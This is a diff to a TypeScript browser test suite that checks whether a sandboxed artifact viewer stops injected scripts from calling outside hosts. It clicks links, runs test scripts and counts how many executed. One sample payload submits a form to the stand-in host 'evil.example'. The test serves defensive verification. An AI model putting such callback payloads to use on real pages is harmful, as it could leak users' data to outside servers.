@@ -60,7 +60,7 @@ async function attempt(shown: Shown, kind: Kind, content: string, title: string)
   if (kind === "mermaid") {
     await shown.view.locator(".diagram .problem, .diagram iframe[style]").first().waitFor();
   }
-  // Whatever can be clicked without leaving is clicked, also inside a frame.
+  // Links are clicked, since some attacks wait for that.
   for (const link of await shown.view.locator("main a[href]").all()) {
     await link.click({ timeout: 1_000 }).catch(() => {});
     await shown.view.getByRole("button", { name: "Cancel" }).click({ timeout: 300 }).catch(
@@ -92,14 +92,16 @@ async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
     `const form = Object.assign(document.createElement("form"), { action: "http://evil.example/form" });
      document.body.append(form); form.submit()`,
   ];
+  let ran = 0;
   for (const code of tries) {
     const html = `<p id="ran">no</p><script>ran.textContent = "yes";${code}</script>`;
     await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
     await shown.view.getByRole("button", { name: "Run scripts" }).click();
     // One that navigates away is gone, and has gone nowhere.
     await shown.view.frameLocator("iframe.frame").locator("#ran").getByText("yes")
-      .waitFor({ timeout: 1_500 }).catch(() => {});
+      .waitFor({ timeout: 1_500 }).then(() => ran++, () => {});
     assert.deepEqual([shown.executions, home.requests], [[], 0], code);
   }
+  assert.ok(ran >= tries.length - 3, `${ran} ran`);
   return `${tries.length} scripts that were let run reached nothing`;
 }
